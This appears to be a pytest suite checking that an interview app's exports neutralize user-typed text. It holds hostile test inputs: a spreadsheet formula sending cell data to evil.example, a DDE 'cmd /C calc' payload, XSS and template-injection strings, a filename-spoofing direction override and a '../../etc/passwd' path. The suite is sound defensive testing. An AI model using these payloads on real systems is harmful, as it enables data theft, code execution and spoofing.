"""Whatever people type stays text: no formula, no markup, no script, no broken file."""

from __future__ import annotations

import json
from io import BytesIO

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from selectolax.lexbor import LexborHTMLParser

from interview.exports.document import safe_name
from interview.exports.formats.delimited import disarmed
from interview.exports.formats.markdown import inline
from interview.exports.text import cleaned, is_right_to_left, plain
from interview.services.context import Context
from tests.exports import scenes
from tests.factories import World

sqlite = pytest.mark.parametrize("store", ["sqlite"], indirect=True)

FORMULA = '=HYPERLINK("http://evil.example/"&A1,"click") or cmd|\' /C calc\'!A0'
SCRIPT = (
    "<script>alert(1)</script><img src=x onerror=alert(2)><svg onload=alert(3)> [a](javascript:alert(4)) ![b](http://evil/x) "
    '"><iframe src=//evil> {{ 7*7 }} {% raw %} #eval("1") $x$ *bold* `code` <http://auto.link>'
)
WORLD = "مرشّح قوي جدًا في التصميم — שלום עולם, 候補者は素晴らしい 🎉 é\u0301 \u202egnp.exe\u202c Zürich"


@sqlite
@pytest.mark.parametrize("kind", ["loop-summary", "debrief-pack", "scorecards"])
def test_scripts_come_out_inert_in_html_and_markdown(context: Context, world: World, kind: str) -> None:
    scenes.rate(context, world, SCRIPT)
    page = LexborHTMLParser(scenes.made(context, world, "html", kind).decode())
    rendered = LexborHTMLParser(MarkdownIt("commonmark").enable("table").render(scenes.made(context, world, "md", kind).decode()))
    for tree in (page, rendered):
        assert tree.css("script, iframe, svg[onload], img, a, object, embed, form, code, em") == []
        assert not [node for node in tree.css("*") if any(name.startswith("on") for name in node.attributes)]
        assert "<script>alert(1)</script><img src=x onerror=alert(2)>" in (tree.body.text() if tree.body else "")
        assert "[a](javascript:alert(4))" in (tree.body.text() if tree.body else "")


@sqlite
def test_markup_of_typst_and_templates_is_shown_as_typed_in_pdf_and_word(context: Context, world: World) -> None:
    scenes.rate(context, world, SCRIPT)
    for text in (scenes.pdf_text(scenes.made(context, world, "pdf")), scenes.docx_text(scenes.made(context, world, "docx"))):
        assert '#eval("1") $x$ *bold* `code`' in text
        assert "{{ 7*7 }}" in text
        assert "<script>alert(1)</script>" in text


@sqlite
def test_formulas_are_text_in_workbooks_and_disarmed_in_csv(context: Context, world: World) -> None:
    scenes.rate(context, world, FORMULA)
    book = openpyxl.load_workbook(BytesIO(scenes.made(context, world, "xlsx")))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    assert FORMULA in [cell.value for cell in cells]
    assert {row["evidence"] for row in scenes.csv_rows(scenes.made(context, world, "csv"))} == {f"'{FORMULA}"}


@given(st.text())
def test_no_disarmed_text_starts_like_a_formula(text: str) -> None:
    assert disarmed(text).lstrip(" ")[:1] not in {"=", "+", "-", "@", "\t", "\r", "\n"}
    assert disarmed(text).endswith(text)


@sqlite
@pytest.mark.parametrize("form", ["pdf", "docx", "xlsx", "csv", "md", "html", "json"])
def test_every_script_of_the_world_survives_and_overrides_of_direction_do_not(context: Context, world: World, form: str) -> None:
    scenes.rate(context, world, WORLD)
    data = scenes.made(context, world, form)
    if form == "pdf":
        assert "Zürich" in scenes.pdf_text(data)
        return
    if form == "docx":
        text = scenes.docx_text(data)
    elif form == "xlsx":
        book = openpyxl.load_workbook(BytesIO(data))
        text = "\n".join(str(cell.value) for sheet in book.worksheets for row in sheet.iter_rows() for cell in row)
    else:
        text = data.decode()
    assert "مرشّح قوي جدًا في التصميم — שלום עולם, 候補者は素晴らしい 🎉" in text
    assert "\u202e" not in text


@sqlite
@pytest.mark.parametrize("form", ["pdf", "docx", "xlsx", "csv", "md", "html", "json"])
def test_notes_of_twenty_thousand_characters_are_kept_whole(context: Context, world: World, form: str) -> None:
    long = ("word " * 4000)[:19_990] + "the end."
    scenes.rate(context, world, long)
    data = scenes.made(context, world, form, "scorecards")
    readers = {"pdf": scenes.pdf_text, "docx": scenes.docx_text}
    if form == "xlsx":
        book = openpyxl.load_workbook(BytesIO(data))
        assert long.strip() in {cell.value for row in book["Texts"].iter_rows() for cell in row}
        return
    text = readers[form](data) if form in readers else data.decode()
    assert text.count("word") >= 4000
    assert "the end." in text


@sqlite
@pytest.mark.parametrize("form", ["pdf", "docx", "xlsx", "csv", "md", "html", "json"])
def test_control_characters_break_no_file(context: Context, world: World, form: str) -> None:
    scenes.rate(context, world, "one\x00two\x0bthree\x1bfour\r\nfive\u2028six seven eight")
    data = scenes.made(context, world, form, "scorecards")
    if form == "docx":
        assert "onetwothreefour" in scenes.docx_text(data)
    elif form == "json":
        assert json.loads(data)["content"]["scorecards"][0]["notes"] == "onetwothreefour\nfive\nsix seven eight"
    else:
        assert len(data) > 300


@given(st.text())
def test_plain_text_is_plain_already(text: str) -> None:
    assert plain(plain(text)) == plain(text)
    plain(text).encode()


@given(st.text())
def test_text_is_the_same_after_a_reader_of_markdown(text: str) -> None:
    typed = plain(text).replace("\n", " ").strip()
    page = LexborHTMLParser(MarkdownIt("commonmark").render(f"before {inline(typed)} after"))
    assert page.css("a, img, code, em, strong, script, br") == []


def test_cleaning_goes_into_lists_and_keys() -> None:
    assert cleaned({"a\x00": ["b\x01", 3, None]}) == {"a": ["b", 3, None]}


@pytest.mark.parametrize(
    ("text", "expected"), [("שלום", True), ("123 مرحبا", True), ("Hello שלום", False), ("123", False), ("", False)]
)
def test_the_first_letter_decides_the_direction(text: str, expected: bool) -> None:
    assert is_right_to_left(text) is expected


@given(st.text(), st.text())
def test_file_names_are_safe(first: str, second: str) -> None:
    name = safe_name(first, second, extension="pdf")
    assert name.endswith(".pdf")
    assert len(name) <= 104
    assert set(name[:-4]) <= set("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789-")


def test_a_name_in_another_script_still_makes_a_file_name() -> None:
    assert safe_name("../../etc/passwd", extension="md") == "etc-passwd.md"
    assert safe_name("مرشح", extension="pdf") == "document.pdf"
